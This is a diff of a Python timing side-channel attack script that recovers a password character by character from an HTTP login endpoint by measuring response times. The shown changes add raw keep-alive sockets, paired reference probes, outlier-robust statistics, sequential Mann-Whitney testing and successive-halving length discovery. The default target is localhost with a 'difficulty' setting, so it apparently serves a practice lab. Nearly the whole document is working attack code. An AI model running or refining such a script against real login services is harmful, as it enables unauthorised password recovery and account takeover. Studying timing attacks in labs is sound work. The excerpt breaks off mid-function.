@@ -5,257 +5,771 @@ Interactive Timing Side-Channel Attack (enhanced, verbose timestamps)
 Adds:
 - Timestamps at run start/end, phase start/end, and per-position start/end
 - Detailed per-position reports:
-  * quick-stage top-K candidates (char, median, samples)
-  * full-stage re-measured candidates (char, median, samples) and chosen char
+  * quick-stage top-K candidates (char, score, samples)
+  * full-stage re-measured candidates (char, score, samples) and chosen char
   * elapsed times: since run start and since position start
 - Final delta time for whole run
 - Saves JSON + TXT summary (same as before)
 """
 
 import requests
+import threading
 import time
-from concurrent.futures import ThreadPoolExecutor, as_completed
-from statistics import median
-from typing import Tuple, List, Dict, Optional
+from concurrent.futures import ThreadPoolExecutor
+from functools import partial
+import heapq
+import itertools
+from statistics import pstdev
+from typing import Tuple, List, Dict, Optional, Hashable, Callable, TextIO
 from datetime import datetime
 import json
+import math
 import os
+import socket
+from urllib.parse import urlencode, urlsplit
 
 # Configuration defaults
 BASE_URL = "http://127.0.0.1"
 CHARSET = "abcdefghijklmnopqrstuvwxyz"
 MAX_LENGTH = 32
+POOL_SIZE = 200  # upper bound of the worker prompts
 
 # --- Timing helpers ---------------------------------------------------------
-def perf_time() -> float:
-    return time.perf_counter()
+# Times are kept as integer nanoseconds end to end; a float subtraction of two
+# large perf_counter() values would round away sub-microsecond differences.
+# Bound directly (not wrapped in a Python function) so reading the clock in the
+# probe bracket stays in C. On Linux the raw monotonic clock is used: unlike
+# CLOCK_MONOTONIC behind perf_counter, NTP does not slew its rate mid-run.
+if hasattr(time, "CLOCK_MONOTONIC_RAW"):
+    perf_time_ns: Callable[[], int] = partial(time.clock_gettime_ns, time.CLOCK_MONOTONIC_RAW)
+else:
+    perf_time_ns = time.perf_counter_ns
 
-def fmt_time(t: float) -> str:
-    return f"{t:.12f}s"
+def ns_to_s(ns: int) -> float:
+    return ns / 1e9
+
+def fmt_time(ns: int) -> str:
+    return f"{ns_to_s(ns):.9f}s"
 
 def now_iso() -> str:
     return datetime.now().isoformat(sep=" ", timespec="seconds")
 
+# --- Console output ----------------------------------------------------------
+# 0 = phase boundaries only, 1 = per-round and per-position progress,
+# 2 = full candidate tables (the detailed per-position reports; default).
+# Set from the menu.
+VERBOSE = 2
+
+def log(level: int, msg: str) -> None:
+    if level <= VERBOSE:
+        print(msg)
+
 # --- Network measurement ---------------------------------------------------
-def measure_time(username: str, password: str, difficulty: int, timeout: float = 10.0) -> float:
-    url = f"{BASE_URL}/?user={username}&password={password}&difficulty={difficulty}"
-    start = perf_time()
+# One keep-alive connection per worker thread: probes reuse an open socket
+# instead of paying a TCP handshake that would drown out the server-side delay.
+# Timed probes go over a per-thread raw socket, warmed by warm_pool; requests
+# is only used for the single untimed verification request.
+_tls = threading.local()
+
+def warm_pool(executor: ThreadPoolExecutor, n: int) -> None:
+    """Open a keep-alive connection on `n` pool threads so no timed probe pays the handshake."""
+    # each task waits for the others after priming, which forces the pool to
+    # spin up n distinct threads (each with its own socket) instead of reusing one
+    barrier = threading.Barrier(n)
+
+    warmup = build_request(BASE_URL + "/")
+
+    def warm(_: int) -> None:
+        measure_time(warmup)
+        try:
+            barrier.wait(timeout=1.0)
+        except threading.BrokenBarrierError:
+            pass
+
+    list(executor.map(warm, range(n)))
+
+def build_url(username: str, password: str, difficulty: int) -> str:
+    # percent-encoded, so the raw request line stays valid (and ASCII) for any username
+    query = urlencode({"user": username, "password": password, "difficulty": difficulty})
+    return f"{BASE_URL}/?{query}"
+
+def build_request(url: str) -> bytes:
+    """Raw HTTP/1.1 keep-alive GET for `url`, encoded once so probes only have to send it."""
+    parts = urlsplit(url)
+    target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
+    return f"GET {target} HTTP/1.1\r\nHost: {parts.netloc}\r\nConnection: keep-alive\r\n\r\n".encode("ascii")
+
+def build_probe(username: str, password: str, difficulty: int) -> bytes:
+    return build_request(build_url(username, password, difficulty))
+
+def candidate_password(known_password: str, ch: str, password_length: int) -> str:
+    """The test password for `ch` at the next position, padded with 'a' to the full length."""
+    return known_password + ch + "a" * (password_length - len(known_password) - 1)
+
+def build_candidates(known_password: str, password_length: int) -> List[Tuple[str, str]]:
+    """(char, test password) for every char in CHARSET."""
+    return [(ch, candidate_password(known_password, ch, password_length)) for ch in CHARSET]
+
+def get_socket(timeout: float) -> socket.socket:
+    sock = getattr(_tls, "sock", None)
+    if sock is None:
+        target = urlsplit(BASE_URL)
+        sock = socket.create_connection((target.hostname, target.port or 80), timeout=timeout)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        _tls.sock = sock
+    return sock
+
+def drop_socket() -> None:
+    sock = getattr(_tls, "sock", None)
+    _tls.sock = None
+    if sock is not None:
+        try:
+            sock.close()
+        except OSError:
+            pass
+
+def recv_until(sock: socket.socket, data: bytes, marker: bytes) -> bytes:
+    while marker not in data:
+        chunk = sock.recv(4096)
+        if not chunk:
+            raise ConnectionError("connection closed mid-response")
+        data += chunk
+    return data
+
+def recv_at_least(sock: socket.socket, data: bytes, n: int) -> bytes:
+    while len(data) < n:
+        chunk = sock.recv(max(4096, n - len(data)))
+        if not chunk:
+            raise ConnectionError("connection closed mid-body")
+        data += chunk
+    return data
+
+def drain_response(sock: socket.socket, data: bytes) -> None:
+    """Read the rest of a response whose first bytes are `data`, leaving the socket at the next one."""
+    data = recv_until(sock, data, b"\r\n\r\n")
+    head, _, body = data.partition(b"\r\n\r\n")
+    headers = head.lower()
+    # HTTP/1.1 connections persist unless closed explicitly; HTTP/1.0 ones only
+    # when the server opts in
+    if headers.startswith(b"http/1.0"):
+        keep_alive = b"connection: keep-alive" in headers
+    else:
+        keep_alive = b"connection: close" not in headers
+    length = None
+    for line in headers.split(b"\r\n")[1:]:
+        name, _, value = line.partition(b":")
+        if name == b"content-length":
+            length = int(value.strip())
+    if length is not None:
+        body = recv_at_least(sock, body, length)[length:]
+    elif b"transfer-encoding: chunked" in headers:
+        # walk the chunk-size lines, so neither a payload ending in "0\r\n" nor
+        # trailers after the last chunk can desync the framing
+        while True:
+            size_line, _, body = recv_until(sock, body, b"\r\n").partition(b"\r\n")
+            size = int(size_line.split(b";")[0].strip(), 16)
+            if size == 0:
+                break
+            body = recv_at_least(sock, body, size + 2)[size + 2:]
+        # optional trailer fields, then the empty line that ends the message
+        while True:
+            line, _, body = recv_until(sock, body, b"\r\n").partition(b"\r\n")
+            if not line:
+                break
+    else:
+        # no framing: the body runs until the server closes the connection
+        while sock.recv(4096):
+            pass
+        keep_alive = False
+        body = b""
+    # bytes past the end of this response would be read as the next probe's
+    # first response bytes; never reuse a socket that has any
+    if not keep_alive or body:
+        drop_socket()
+
+def measure_time(request: bytes, timeout: float = 10.0) -> Optional[int]:
+    """Send a prebuilt request and return the time until the first response bytes arrive (ns).
+
+    The rest of the response is read outside the timed window, only to keep the
+    connection reusable; no HTTP parsing happens between the two clock reads.
+    """
+    clock = perf_time_ns
+    for _ in range(2):
+        reused = getattr(_tls, "sock", None) is not None
+        try:
+            sock = get_socket(timeout)
+            start = clock()
+            sock.sendall(request)
+            first = sock.recv(4096)
+            end = clock()
+            if not first:
+                raise ConnectionError("connection closed before the response")
+            drain_response(sock, first)
+            return end - start
+        except (OSError, ValueError):
+            drop_socket()
+            # an idle keep-alive socket may have been closed by the server; retry once on a fresh one
+            if not reused:
+                return None
+    return None
+
+def reference_password(password_length: int) -> str:
+    # one char too long, so the server rejects it at the length check
+    return "a" * (password_length + 1)
+
+def measure_pair(request: bytes, reference_request: bytes) -> Optional[int]:
+    """Time a reference probe and the candidate back-to-back on the same socket; return the difference.
+
+    Jitter that hits both requests of the pair cancels out, so the difference carries
+    the secret-dependent delay with less noise than the absolute time.
+    """
+    t_ref = measure_time(reference_request)
+    t_test = measure_time(request)
+    if t_ref is None or t_test is None:
+        return None
+    return t_test - t_ref
+
+def default_spacing_us() -> int:
+    # loopback has no TCP segment coalescing worth avoiding; remote targets do
+    host = urlsplit(BASE_URL).hostname
+    return 0 if host in ("127.0.0.1", "localhost", "::1") else 300
+
+def make_pacer(spacing_us: int) -> Callable[[], None]:
+    """Return a wait() that lets concurrent callers start no closer than `spacing_us` apart."""
+    lock = threading.Lock()
+    next_slot = [0]
+    spacing_ns = spacing_us * 1000
+
+    def wait() -> None:
+        with lock:
+            now = perf_time_ns()
+            slot = max(now, next_slot[0])
+            next_slot[0] = slot + spacing_ns
+        if slot > now:
+            time.sleep(ns_to_s(slot - now))
+
+    return wait
+
+def make_cpu_pinner() -> Optional[Callable[[], None]]:
+    """Return an executor initializer that pins each new worker thread to its own CPU.
+
+    CPUs are handed out round-robin over the ones this process may run on.
+    Returns None where the platform has no thread affinity API.
+    """
+    if not hasattr(os, "sched_setaffinity"):
+        return None
+    cpus = sorted(os.sched_getaffinity(0))
+    slots = itertools.count()
+
+    def pin() -> None:
+        # pid 0 means the calling thread on Linux
+        os.sched_setaffinity(0, {cpus[next(slots) % len(cpus)]})
+
+    return pin
+
+def raise_priority(increment: int = -5) -> bool:
+    """Lower the niceness of the calling thread (and threads it starts later); False if not permitted."""
     try:
-        requests.get(url, timeout=timeout)
-        return perf_time() - start
-    except Exception:
-        return 0.0
-
-def parallel_measurements(username: str, password: str, difficulty: int,
-                          measurements: int, workers: int) -> List[float]:
-    times: List[float] = []
-    with ThreadPoolExecutor(max_workers=workers) as executor:
-        futures = [executor.submit(measure_time, username, password, difficulty) for _ in range(measurements)]
-        for future in as_completed(futures):
-            t = future.result()
-            if t > 0:
-                times.append(t)
-    return times
-
-def median_time_from_list(times: List[float]) -> float:
-    return median(times) if times else 0.0
+        os.nice(increment)
+        return True
+    except (AttributeError, OSError):
+        return False
+
+def submit_batch(executor: ThreadPoolExecutor, jobs: List[Tuple[Hashable, bytes, int]],
+                 reference_request: Optional[bytes] = None,
+                 spacing_us: int = 0,
+                 workers: Optional[int] = None,
+                 serial: bool = False) -> List[Tuple[Hashable, int]]:
+    """Submit every (key, request, measurements) job and collect (key, time) pairs.
+
+    With a reference request each sample is a paired difference (see measure_pair).
+    With `spacing_us` > 0 probe starts are spread at least that far apart, so
+    back-to-back requests are not coalesced into one TCP segment.
+    With `workers` set, at most that many tasks are in flight at once, even
+    when the shared executor has more threads.
+    With `serial`, each job is one task that sends its probes back-to-back on
+    one socket, so repeats of the same request never overlap each other and
+    only different candidates run concurrently.
+    """
+    keys: List[Hashable] = []
+    tasks: List[Tuple[bytes, int]] = []
+    if serial:
+        for key, request, measurements in jobs:
+            keys.append(key)
+            tasks.append((request, measurements))
+    else:
+        # jobs are interleaved round-robin: the first wave in flight already covers
+        # `workers` distinct candidates, and any drift during the batch is spread
+        # evenly over all of them instead of landing on whichever ran last
+        rounds = max((measurements for _, _, measurements in jobs), default=0)
+        for r in range(rounds):
+            for key, request, measurements in jobs:
+                if r < measurements:
+                    keys.append(key)
+                    tasks.append((request, 1))
+    probe = measure_time if reference_request is None else partial(measure_pair, reference_request=reference_request)
+    if spacing_us > 0:
+        pace = make_pacer(spacing_us)
+        unpaced = probe
+
+        def probe(request: bytes) -> Optional[int]:
+            pace()
+            return unpaced(request)
+
+    def run(task: Tuple[bytes, int]) -> List[Optional[int]]:
+        request, count = task
+        return [probe(request) for _ in range(count)]
+
+    # a cap of at least one slot per task can never hold a task back
+    if workers is None or workers >= len(tasks):
+        # map() yields results in submission order, so no per-future completion
+        # bookkeeping is needed to pair each time with its key
+        results = list(executor.map(run, tasks))
+    else:
+        # sliding window: a new task is submitted only once a slot frees up,
+        # and futures are kept in submission order for the same pairing
+        slots = threading.Semaphore(workers)
+        futures = []
+        for task in tasks:
+            slots.acquire()
+            future = executor.submit(run, task)
+            future.add_done_callback(lambda _: slots.release())
+            futures.append(future)
+        results = [f.result() for f in futures]
+    return [(key, t) for key, times in zip(keys, results) for t in times if t is not None]
+
+def median_time_from_list(times: List[int]) -> int:
+    # integer-preserving median: the middle sample, or the floor of the two middle ones
+    if not times:
+        return 0
+    s = sorted(times)
+    mid = len(s) // 2
+    return s[mid] if len(s) % 2 else (s[mid - 1] + s[mid]) // 2
+
+def low_mean(times: List[int]) -> int:
+    """Mean of the fastest 20% of samples (at least one).
+
+    Network noise only ever adds delay, so the fast tail is the cleanest view of
+    the server-side processing time.
+    """
+    if not times:
+        return 0
+    s = sorted(times)
+    k = max(1, len(s) // 5)
+    return sum(s[:k]) // k
+
+def hampel_median(times: List[int], k: int = 3) -> int:
+    """Median of the samples within `k` MADs of the median (a Hampel filter).
+
+    A single scheduler or queueing spike moves a median of 2-8 samples a lot;
+    dropping far-off samples first lets the estimate settle with fewer probes.
+    """
+    if not times:
+        return 0
+    m = median_time_from_list(times)
+    # a MAD of 0 (most samples identical) would reject everything else; allow 1 ns
+    mad = median_time_from_list([abs(t - m) for t in times]) or 1
+    kept = [t for t in times if abs(t - m) <= k * mad]
+    return median_time_from_list(kept)
+
+def trimmed_median(times: List[int]) -> int:
+    """Median after dropping the slowest sample (from 3 samples) and the fastest (from 5)."""
+    s = sorted(times)
+    if len(s) >= 3:
+        s = s[:-1]
+    if len(s) >= 4:
+        s = s[1:]
+    return median_time_from_list(s)
+
+# Per-candidate score; the slowest-scoring candidate wins.
+AGGREGATORS: Dict[str, Callable[[List[int]], int]] = {
+    "median": median_time_from_list,
+    "low_mean": low_mean,
+    "hampel": hampel_median,
+    "trimmed_median": trimmed_median,
+}
+
+def candidate_jobs(username: str, difficulty: int, candidates: List[Tuple[str, str]],
+                   measurements: int) -> List[Tuple[Hashable, bytes, int]]:
+    """submit_batch jobs for (char, pwd) candidates, keyed by candidate index; requests are built here once."""
+    return [(i, build_probe(username, pwd, difficulty), measurements) for i, (_, pwd) in enumerate(candidates)]
+
+def score_candidates(candidates: List[Tuple[str, str]], samples: List[List[int]],
+                     aggregate: Callable[[List[int]], int]) -> List[Dict]:
+    """One entry per candidate, in candidate order, from per-candidate sample lists."""
+    return [{"char": ch, "score": aggregate(times), "samples": len(times),
+             "stdev": int(pstdev(times)) if len(times) > 1 else 0}
+            for (ch, _), times in zip(candidates, samples)]
+
+def rank_candidates(executor: ThreadPoolExecutor, username: str, difficulty: int,
+                    candidates: List[Tuple[str, str]], measurements: int,
+                    aggregate: Callable[[List[int]], int] = median_time_from_list,
+                    spacing_us: int = 0,
+                    workers: Optional[int] = None,
+                    serial: bool = False) -> List[Dict]:
+    """Measure all (char, pwd) candidates in one batch; return one entry per candidate, in candidate order.
+
+    Entries are keyed by char only; the test password is rebuilt with candidate_password when needed.
+    """
+    # samples are collected into lists indexed like `candidates`; result dicts
+    # are only built once at the end
+    jobs = candidate_jobs(username, difficulty, candidates, measurements)
+    samples: List[List[int]] = [[] for _ in candidates]
+    for i, t in submit_batch(executor, jobs, spacing_us=spacing_us, workers=workers, serial=serial):
+        samples[i].append(t)
+    return score_candidates(candidates, samples, aggregate)
+
+def top_scores(entries: List[Dict], n: int) -> List[Dict]:
+    """The `n` highest-scoring entries, slowest first, without reordering `entries`."""
+    # only a handful of leaders are ever needed, so a heap beats sorting all 26
+    return heapq.nlargest(n, entries, key=lambda e: e["score"])
 
 # --- Ranking-enabled character crack ---------------------------------------
-def crack_character_with_ranking(username: str, known_password: str, password_length: int,
-                                 difficulty: int,
-                                 quick_measurements: int, quick_workers: int,
-                                 full_measurements: int, full_workers: int,
-                                 top_k: int) -> Tuple[str, float, Dict]:
-    position = len(known_password)
-    padding_length = password_length - position - 1
-    padding = "a" * padding_length
+def crack_character_with_ranking(executor: ThreadPoolExecutor, username: str, known_password: str,
+                                 password_length: int, difficulty: int,
+                                 quick_measurements: int, full_measurements: int,
+                                 top_k: int, use_paired: bool = False,
+                                 aggregate: Callable[[List[int]], int] = median_time_from_list,
+                                 spacing_us: int = 0,
+                                 quick_workers: Optional[int] = None,
+                                 full_workers: Optional[int] = None,
+                                 quick_exit_mads: int = 0,
+                                 serial: bool = False) -> Tuple[str, int, Dict]:
     debug = {"quick": [], "full": []}
 
-    # Stage 1: quick probe for all chars
-    for ch in CHARSET:
-        test_pwd = known_password + ch + padding
-        times = parallel_measurements(username, test_pwd, difficulty, quick_measurements, quick_workers)
-        med = median_time_from_list(times)
-        debug["quick"].append({"char": ch, "pwd": test_pwd, "median": med, "samples": len(times)})
+    # Stage 1: quick probe for all chars, one probe per char per round
+    # (paired mode ranks by median difference against a fast-reject reference).
+    # After round 2, and before the last one, the stage stops early once the
+    # leader's score clears the runner-up by more than `quick_exit_mads` MADs
+    # of the leader's samples. So it only saves probes with 3+ quick
+    # measurements; 0 always runs all `quick_measurements` rounds.
+    candidates = build_candidates(known_password, password_length)
+    jobs = candidate_jobs(username, difficulty, candidates, 1)
+    reference_request = (build_probe(username, reference_password(password_length), difficulty)
+                         if use_paired else None)
+    # Paired differences are symmetric around the true gap, so the fast-tail
+    # aggregators do not apply to them; a spike in either probe of a pair still
+    # lands in the difference, hence the outlier-filtered median. Only the quick
+    # stage is paired; stage 2 keeps the caller's aggregator.
+    quick_aggregate = hampel_median if use_paired else aggregate
+    samples: List[List[int]] = [[] for _ in candidates]
+    for r in range(1, quick_measurements + 1):
+        for i, t in submit_batch(executor, jobs, reference_request, spacing_us, quick_workers):
+            samples[i].append(t)
+        debug["quick_rounds"] = r
+        if quick_exit_mads and 2 <= r < quick_measurements:
+            scores = [quick_aggregate(times) for times in samples]
+            lead, runner_up = heapq.nlargest(2, range(len(scores)), key=scores.__getitem__)
+            lead_median = median_time_from_list(samples[lead])
+            mad = median_time_from_list([abs(t - lead_median) for t in samples[lead]]) or 1
+            if (scores[lead] - scores[runner_up]) / mad > quick_exit_mads:
+                break
+    debug["quick"] = score_candidates(candidates, samples, quick_aggregate)
+    top_candidates = top_scores(debug["quick"], top_k)
 
-    # sort quick stage descending by median and pick top_k
-    debug["quick"].sort(key=lambda x: x["median"], reverse=True)
-    top_candidates = debug["quick"][:top_k]
+    # Skip stage 2 when the quick-stage leader already clears the runner-up by
+    # more than 3 standard errors of its own samples (a spread estimated from
+    # fewer than 3 samples is too unreliable to act on)
+    lead, runner_up = top_scores(debug["quick"], 2)
+    debug["stage2_skipped"] = (lead["samples"] >= 3 and lead["stdev"] > 0 and
+                               lead["score"] - runner_up["score"] > 3 * lead["stdev"] / math.sqrt(lead["samples"]))
+    if debug["stage2_skipped"]:
+        return lead["char"], lead["score"], debug
 
     # Stage 2: full measurements for top candidates
-    for cand in top_candidates:
-        ch = cand["char"]
-        test_pwd = cand["pwd"]
-        times = parallel_measurements(username, test_pwd, difficulty, full_measurements, full_workers)
-        med = median_time_from_list(times)
-        debug["full"].append({"char": ch, "pwd": test_pwd, "median": med, "samples": len(times)})
-
-    debug["full"].sort(key=lambda x: x["median"], reverse=True)
-    best = debug["full"][0]
-    return best["char"], best["median"], debug
+    candidates = [(cand["char"], candidate_password(known_password, cand["char"], password_length))
+                  for cand in top_candidates]
+    debug["full"] = rank_candidates(executor, username, difficulty, candidates, full_measurements,
+                                    aggregate=aggregate, spacing_us=spacing_us, workers=full_workers, serial=serial)
+    best = max(debug["full"], key=lambda e: e["score"])
+    return best["char"], best["score"], debug
 
 # --- Non-ranking simple character crack -----------------------------------
-def crack_character_simple(username: str, known_password: str, password_length: int,
-                           difficulty: int, measurements: int, workers: int) -> Tuple[str, float, Dict]:
-    position = len(known_password)
-    padding_length = password_length - position - 1
-    padding = "a" * padding_length
-    results = []
-    for ch in CHARSET:
-        test_pwd = known_password + ch + padding
-        times = parallel_measurements(username, test_pwd, difficulty, measurements, workers)
-        med = median_time_from_list(times)
-        results.append({"char": ch, "pwd": test_pwd, "median": med, "samples": len(times)})
-    results.sort(key=lambda x: x["median"], reverse=True)
-    best = results[0]
+def crack_character_simple(executor: ThreadPoolExecutor, username: str, known_password: str,
+                           password_length: int, difficulty: int,
+                           measurements: int,
+                           aggregate: Callable[[List[int]], int] = median_time_from_list,
+                           spacing_us: int = 0,
+                           workers: Optional[int] = None,
+                           serial: bool = False) -> Tuple[str, int, Dict]:
+    candidates = build_candidates(known_password, password_length)
+    results = rank_candidates(executor, username, difficulty, candidates, measurements,
+                              aggregate=aggregate, spacing_us=spacing_us, workers=workers, serial=serial)
+    best = max(results, key=lambda e: e["score"])
     debug = {"results": results}
-    return best["char"], best["median"], debug
+    return best["char"], best["score"], debug
+
+# --- Sequential-test character crack --------------------------------------
+def mann_whitney_p(x: List[int], y: List[int]) -> float:
+    """One-sided p-value that samples in x tend to be larger than in y.
+
+    Mann-Whitney U with the normal approximation and a continuity correction;
+    tied values get their average rank.
+    """
+    n1, n2 = len(x), len(y)
+    if n1 == 0 or n2 == 0:
+        return 1.0
+    pooled = sorted([(v, True) for v in x] + [(v, False) for v in y])
+    rank_sum_x = 0.0
+    i = 0
+    while i < len(pooled):
+        j = i
+        while j + 1 < len(pooled) and pooled[j + 1][0] == pooled[i][0]:
+            j += 1
+        avg_rank = (i + j) / 2 + 1
+        rank_sum_x += avg_rank * sum(1 for k in range(i, j + 1) if pooled[k][1])
+        i = j + 1
+    u = rank_sum_x - n1 * (n1 + 1) / 2
+    sigma = math.sqrt(n1 * n2 * (n1 + n2 + 1) / 12)
+    z = (u - n1 * n2 / 2 - 0.5) / sigma
+    return 0.5 * math.erfc(z / math.sqrt(2))
+
+def crack_character_sequential(executor: ThreadPoolExecutor, username: str, known_password: str,
+                               password_length: int, difficulty: int,
+                               alpha: float, batch: int, max_samples: int,
+                               aggregate: Callable[[List[int]], int] = median_time_from_list,
+                               spacing_us: int = 0,
+                               workers: Optional[int] = None,
+                               serial: bool = False) -> Tuple[str, int, Dict]:
+    """Probe all chars in rounds of `batch` until the leader beats the runner-up (p < alpha).
+
+    If `max_samples` per char is reached first, the leader by score is returned.
+    """
+    candidates = build_candidates(known_password, password_length)
+    jobs = [(ch, build_probe(username, pwd, difficulty), batch) for ch, pwd in candidates]
+    samples: Dict[str, List[int]] = {ch: [] for ch in CHARSET}
+    rounds = 0
+    while True:
+        for ch, t in submit_batch(executor, jobs, spacing_us=spacing_us, workers=workers, serial=serial):
+            samples[ch].append(t)
+        rounds += 1
+        leader, runner_up = heapq.nlargest(2, CHARSET, key=lambda c: aggregate(samples[c]))
+        p_value = mann_whitney_p(samples[leader], samples[runner_up])
+        if p_value < alpha or rounds * batch >= max_samples:
+            break
+
+    results = [{"char": ch, "score": aggregate(samples[ch]), "samples": len(samples[ch])}
+               for ch in CHARSET]
+    best = max(results, key=lambda e: e["score"])
+    debug = {"results": results, "rounds": rounds, "p_value": p_value, "decided": p_value < alpha}
+    return best["char"], best["score"], debug
 
 # --- Phase 1: find length --------------------------------------------------
-def find_password_length(username: str, difficulty: int, measurements: int, workers: int) -> Tuple[int, Dict]:
+def find_password_length(executor: ThreadPoolExecutor, username: str, difficulty: int, per_round: int, workers: int,
+                         aggregate: Callable[[List[int]], int] = median_time_from_list,
+                         spacing_us: int = 0,
+                         serial: bool = False) -> Tuple[int, Dict]:
     start_iso = now_iso()
-    start_perf = perf_time()
-    print(f"\n[PHASE 1 START] Finding password length at {start_iso}")
+    start_perf = perf_time_ns()
+    log(0, f"\n[PHASE 1 START] Finding password length at {start_iso}")
+    # Successive halving: every length gets `per_round` probes, then only the
+    # slower half is probed again, until one is left. The wrong lengths are flat
+    # noise and get dropped cheaply, while the real peak keeps accumulating
+    # samples; the whole phase costs (32 + 16 + 8 + 4 + 2) x `per_round` probes.
+    probes = {length: build_probe(username, "a" * length, difficulty) for length in range(1, MAX_LENGTH + 1)}
+    samples: Dict[int, List[int]] = {length: [] for length in probes}
+    alive = list(probes)
+    rounds = 0
+    warm_pool(executor, workers)
+    while len(alive) > 1:
+        jobs = [(length, probes[length], per_round) for length in alive]
+        for length, t in submit_batch(executor, jobs, spacing_us=spacing_us, workers=workers, serial=serial):
+            samples[length].append(t)
+        rounds += 1
+        alive.sort(key=lambda l: aggregate(samples[l]), reverse=True)
+        log(1, f"[{now_iso()}] Round {rounds}: probed {len(alive)} lengths x {per_round}, "
+               f"leader {alive[0]} (score {fmt_time(aggregate(samples[alive[0]]))})")
+        alive = alive[:(len(alive) + 1) // 2]
     length_times = []
-    for length in range(1, MAX_LENGTH + 1):
-        test_pwd = "a" * length
-        times = parallel_measurements(username, test_pwd, difficulty, measurements, workers)
-        med = median_time_from_list(times)
-        length_times.append({"length": length, "median": med, "samples": len(times)})
-        print(f"[{now_iso()}] Length {length:2d} -> median {fmt_time(med)} (samples={len(times)})")
-
-    best = max(length_times, key=lambda x: x["median"])
-    end_perf = perf_time()
-    print(f"[PHASE 1 END] Completed at {now_iso()}  duration {fmt_time(end_perf - start_perf)}")
-    return best["length"], {"length_times": length_times, "picked": best, "phase_start": start_iso, "phase_end": now_iso(), "phase_duration": end_perf - start_perf}
+    ts = now_iso()
+    for length in probes:
+        times = samples[length]
+        score = aggregate(times)
+        length_times.append({"length": length, "score": score, "samples": len(times)})
+        log(2, f"[{ts}] Length {length:2d} -> score {fmt_time(score)} (samples={len(times)})")
+
+    best = next(x for x in length_times if x["length"] == alive[0])
+    end_perf = perf_time_ns()
+    end_iso = now_iso()
+    log(0, f"[PHASE 1 END] Completed at {end_iso}  duration {fmt_time(end_perf - start_perf)}")
+    return best["length"], {"length_times": length_times, "picked": best, "rounds": rounds, "phase_start": start_iso, "phase_end": end_iso, "phase_duration": ns_to_s(end_perf - start_perf)}
 
 # --- Phase 2: crack password ------------------------------------------------
-def crack_password(username: str, difficulty: int, length: int,
+def crack_password(executor: ThreadPoolExecutor, username: str, difficulty: int, length: int,
                    use_ranking: bool,
                    quick_measurements: int, quick_workers: int,
                    full_measurements: int, full_workers: int,
                    top_k: int,
-                   simple_measurements: int, simple_workers: int) -> Tuple[str, List[Dict]]:
+                   simple_measurements: int, simple_workers: int,
+                   use_paired: bool = False,
+                   use_sequential: bool = False, seq_alpha: float = 0.01,
+                   seq_batch: int = 4, seq_max_samples: int = 32,
+                   aggregate: Callable[[List[int]], int] = median_time_from_list,
+                   spacing_us: int = 0,
+                   quick_exit_mads: int = 0,
+                   serial: bool = False,
+                   on_position: Optional[Callable[[Dict], None]] = None) -> Tuple[str, List[Dict]]:
     discovered = ""
     per_char_log = []
-    run_start_perf = perf_time()
+    run_start_perf = perf_time_ns()
     run_start_iso = now_iso()
-    print(f"\n[PHASE 2 START] Cracking password of length {length} at {run_start_iso} (use_ranking={use_ranking})")
+    log(0, f"\n[PHASE 2 START] Cracking password of length {length} at {run_start_iso} (use_ranking={use_ranking})")
 
+    # The executor is shared with Phase 1; warm as many of its sockets as the
+    # widest stage keeps in flight.
+    pool_size = max(quick_workers, full_workers) if use_ranking else simple_workers
     for pos in range(length):
-        pos_start_perf = perf_time()
+        pos_start_perf = perf_time_ns()
         pos_start_iso = now_iso()
-        print("\n" + "-" * 70)
-        print(f"[{pos+1}/{length}] Position start at {pos_start_iso}  Known so far: '{discovered}'")
+        log(1, "\n" + "-" * 70)
+        log(1, f"[{pos+1}/{length}] Position start at {pos_start_iso}  Known so far: '{discovered}'")
+        # untimed warm-up before every position: sockets that idled through the
+        # previous position's scoring and printing are re-opened (or confirmed
+        # alive) before they carry a timed probe
+        warm_pool(executor, pool_size)
         # If ranking: quick stage -> show top_k -> full stage -> show full results
         if use_ranking:
-            # Quick stage (we do the quick probes inside the ranking function, but we want to print the quick top_k)
-            # We will call the ranking function but first run a quick-only pass to get quick results for printing
-            # Quick-only pass
-            quick_debug = {"quick": []}
-            padding_length = length - len(discovered) - 1
-            padding = "a" * padding_length
-            for ch in CHARSET:
-                test_pwd = discovered + ch + padding
-                q_times = parallel_measurements(username, test_pwd, difficulty, quick_measurements, quick_workers)
-                q_med = median_time_from_list(q_times)
-                quick_debug["quick"].append({"char": ch, "pwd": test_pwd, "median": q_med, "samples": len(q_times)})
-            quick_debug["quick"].sort(key=lambda x: x["median"], reverse=True)
-            top_candidates = quick_debug["quick"][:top_k]
-
-            print(f"\n[{now_iso()}] Quick-stage (top {top_k}) candidates:")
-            for i, c in enumerate(top_candidates, start=1):
-                print(f"  {i}. '{c['char']}'  pwd='{c['pwd']}'  median={fmt_time(c['median'])}  samples={c['samples']}")
-
-            # Now run the full ranking function (which re-measures top candidates)
-            chosen_char, chosen_med, debug = crack_character_with_ranking(
-                username, discovered, length, difficulty,
-                quick_measurements, quick_workers,
-                full_measurements, full_workers,
-                top_k
+            # one call runs both stages; the quick-stage ranking comes back in the debug dict
+            chosen_char, chosen_score, debug = crack_character_with_ranking(
+                executor, username, discovered, length, difficulty,
+                quick_measurements, full_measurements,
+                top_k, use_paired, aggregate, spacing_us,
+                quick_workers, full_workers, quick_exit_mads, serial
             )
+            top_candidates = top_scores(debug["quick"], top_k)
+
+            log(2, f"\n[{pos_start_iso}] Quick-stage (top {top_k}) candidates:")
+            for i, c in enumerate(top_candidates, start=1):
+                log(2, f"  {i}. '{c['char']}'  pwd='{candidate_password(discovered, c['char'], length)}'  score={fmt_time(c['score'])}  samples={c['samples']}")
 
-            print(f"\n[{now_iso()}] Full-stage re-measure results (top candidates):")
-            for i, c in enumerate(debug["full"], start=1):
-                marker = " <-- SELECTED" if c["char"] == chosen_char else ""
-                print(f"  {i}. '{c['char']}'  pwd='{c['pwd']}'  median={fmt_time(c['median'])}  samples={c['samples']}{marker}")
+            if debug["stage2_skipped"]:
+                log(2, f"\n[{pos_start_iso}] Full stage skipped: quick-stage leader '{chosen_char}' is already clear of the runner-up")
+            else:
+                log(2, f"\n[{pos_start_iso}] Full-stage re-measure results (top candidates):")
+                for i, c in enumerate(top_scores(debug["full"], len(debug["full"])), start=1):
+                    marker = " <-- SELECTED" if c["char"] == chosen_char else ""
+                    log(2, f"  {i}. '{c['char']}'  pwd='{candidate_password(discovered, c['char'], length)}'  score={fmt_time(c['score'])}  samples={c['samples']}{marker}")
 
             selected_char = chosen_char
-            selected_median = chosen_med
